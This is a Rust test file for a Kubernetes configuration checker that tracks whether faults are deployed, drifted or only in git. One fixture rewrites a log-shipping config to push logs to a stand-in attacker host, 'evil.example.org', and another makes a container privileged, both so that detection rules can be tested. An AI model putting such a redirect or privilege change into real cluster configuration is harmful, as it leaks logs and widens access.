//! Clusters held against the folder that they were made from.

use serde_json::Value;
use serde_json::json;

use super::live;
use super::reports::faults;
use super::several::mend_leak;
use super::several::variant;
use crate::check::CheckOptions;
use crate::check::Checked;
use crate::check::check;
use crate::finding::Finding;
use crate::finding::GitState;
use crate::report::Detail;
use crate::source::Source;
use crate::source::Sources;

/// A run over one cluster and the folder `repo` with these objects.
pub(super) fn against(running: &[Value], repo: &[Value]) -> Checked {
    let mut sources = live(&[("prod", running)]);
    let files = repo.iter().enumerate().map(|(index, object)| Source {
        path: format!("repo/{index}.json"),
        argument: 0,
        text: serde_json::to_string_pretty(object).unwrap().into(),
    });
    sources.add(Sources { texts: files.collect(), ..Sources::default() });
    check(&sources, &["repo".to_owned()], &CheckOptions { against: true, ..CheckOptions::default() })
}

pub(super) fn of<'c>(checked: &'c Checked, rule: &str) -> Vec<&'c Finding> {
    checked.report.findings.iter().filter(|finding| finding.rule == rule).collect()
}

pub(super) fn state(checked: &Checked, rule: &str) -> GitState {
    let found = of(checked, rule);
    assert_eq!(found.len(), 1, "{rule}: {found:?}");
    found[0].seen.git.as_ref().unwrap().state
}

fn nothing(_: &mut Vec<Value>) {}

/// Says who wrote a field of an object.
pub(super) fn written(object: &mut Value, manager: &str, fields: &Value) {
    let operation = if manager.starts_with("pulumi") { "Apply" } else { "Update" };
    let mut entries = object["metadata"]["managedFields"].as_array().cloned().unwrap_or_default();
    entries.push(json!({"manager": manager, "operation": operation, "fieldsV1": fields}));
    object["metadata"]["managedFields"] = json!(entries);
}

/// A fault, made by one change: the object by its number, the rule that finds it, and whose field it is.
pub(super) struct Change {
    pub(super) rule: &'static str,
    pub(super) object: usize,
    pub(super) make: fn(&mut Value),
    pub(super) fields: fn() -> Value,
}

pub(super) const CHANGES: &[Change] = &[
    Change {
        rule: "logs-leave-workload",
        object: 1,
        make: |object| {
            let program = object["data"]["config.alloy"].as_str().unwrap();
            let own = "http://loki-gateway.loki.svc.cluster.local/loki/api/v1/push";
            object["data"]["config.alloy"] = json!(program.replace(own, "https://evil.example.org/push"));
        },
        fields: || json!({"f:data": {"f:config.alloy": {}}}),
    },
    Change {
        rule: "privileged-without-system-logs",
        object: 2,
        make: |object| {
            object["spec"]["template"]["spec"]["containers"][0]["securityContext"] =
                json!({"privileged": true});
        },
        fields: || {
            let container = json!({"f:securityContext": {"f:privileged": {}}});
            json!({"f:spec": {"f:template": {"f:spec": {"f:containers": {"k:{\"name\":\"alloy\"}": container}}}}})
        },
    },
    Change {
        rule: "loki-retention-dead",
        object: 3,
        make: |object| {
            object["spec"]["valuesContent"] = json!("loki:\n  limits_config:\n    retention_period: 24h\n");
        },
        fields: || json!({"f:spec": {"f:valuesContent": {}}}),
    },
];

/// The fixture without the faults that are made by [`CHANGES`].
pub(super) fn clean() -> Vec<Value> {
    variant(1, |objects| {
        mend_leak(objects);
        objects[2]["spec"]["template"]["spec"]["containers"][0]["securityContext"] = json!({});
        objects[3]["spec"]["valuesContent"] = json!("loki:\n  auth_enabled: false\n");
    })
}

#[test]
fn fault_in_both_is_told_once_at_both_places() {
    let own = variant(1, nothing);
    let checked = against(&own, &own);
    let leak = of(&checked, "logs-leave-workload");
    assert_eq!(leak.len(), 1);
    let git = leak[0].seen.git.as_ref().unwrap();
    assert_eq!(git.state, GitState::Both);
    assert!(checked.documents.resolve(git.place.unwrap()).path.starts_with("repo/1.json"));
    for verdict in &checked.report.verdicts {
        for index in &verdict.findings {
            assert_eq!(checked.report.findings[*index].invariant, verdict.invariant);
        }
    }
    let violated = |subject: &str| {
        let mut own = checked.report.verdicts.iter().filter(|verdict| verdict.subject == subject);
        own.any(|verdict| {
            verdict.findings.iter().any(|index| {
                checked.report.findings.get(*index).is_some_and(|own| std::ptr::eq(own, leak[0]))
            })
        })
    };
    assert!(violated("prod") && violated("repo"), "it is under both verdicts");
}

#[test]
fn each_changed_field_is_told_as_what_it_is() {
    for change in CHANGES {
        let (good, mut bad) = (clean(), clean());
        (change.make)(&mut bad[change.object]);
        assert!(of(&against(&good, &good), change.rule).is_empty(), "{}: a clean start", change.rule);
        assert_eq!(state(&against(&bad, &bad), change.rule), GitState::Both, "{}", change.rule);
        assert_eq!(state(&against(&good, &bad), change.rule), GitState::OnlyGit, "{}", change.rule);

        let mut deployed = bad.clone();
        written(&mut deployed[change.object], "pulumi-kubernetes-1a2b", &(change.fields)());
        let checked = against(&deployed, &good);
        assert_eq!(state(&checked, change.rule), GitState::NotDeployed, "{}", change.rule);
        let place = of(&checked, change.rule)[0].seen.git.as_ref().unwrap().place.unwrap();
        let path = checked.documents.resolve(place).path;
        assert_eq!(path, format!("repo/{}.json", change.object), "the file in the folder");

        let mut edited = deployed.clone();
        written(&mut edited[change.object], "kubectl-edit", &(change.fields)());
        assert_eq!(state(&against(&edited, &good), change.rule), GitState::Drifted, "{}", change.rule);

        let mut other = bad.clone();
        written(&mut other[change.object], "kubectl-edit", &json!({"f:metadata": {"f:labels": {"f:x": {}}}}));
        written(&mut other[change.object], "pulumi-kubernetes-1a2b", &(change.fields)());
        let found = state(&against(&other, &good), change.rule);
        assert_eq!(found, GitState::NotDeployed, "{}: a label was edited, not this", change.rule);

        let mut without = good.clone();
        without.remove(change.object);
        assert_eq!(state(&against(&bad, &without), change.rule), GitState::OnlyLive, "{}", change.rule);
    }
}

#[test]
fn what_was_applied_last_tells_edits_from_deployments() {
    let change = &CHANGES[1];
    let (good, mut bad) = (clean(), clean());
    (change.make)(&mut bad[change.object]);
    for (applied, expected) in [(&good, GitState::Drifted), (&bad, GitState::NotDeployed)] {
        let mut running = bad.clone();
        let text = applied[change.object].to_string();
        let note = json!({"kubectl.kubernetes.io/last-applied-configuration": text});
        running[change.object]["metadata"]["annotations"] = note;
        assert_eq!(state(&against(&running, &good), change.rule), expected);
    }
}

#[test]
fn state_is_in_every_form_of_report() {
    let (good, mut bad) = (clean(), clean());
    (CHANGES[1].make)(&mut bad[2]);
    written(&mut bad[2], "kubectl-edit", &(CHANGES[1].fields)());
    let checked = against(&bad, &good);
    let report = checked.json();
    assert_eq!(faults(&report), Vec::<String>::new());
    let found = report["findings"].as_array().unwrap();
    let found = found.iter().find(|finding| finding["rule"] == CHANGES[1].rule).unwrap();
    assert_eq!(found["git"]["state"], json!("drifted"));
    assert!(found["git"]["location"]["path"].as_str().unwrap().starts_with("repo/"));
    let text = checked.human(Detail::Normal);
    assert!(text.contains("  drifted (repo/2.json:"), "{text}");
    assert!(text.contains("was last written by `kubectl-edit`"), "{text}");
}
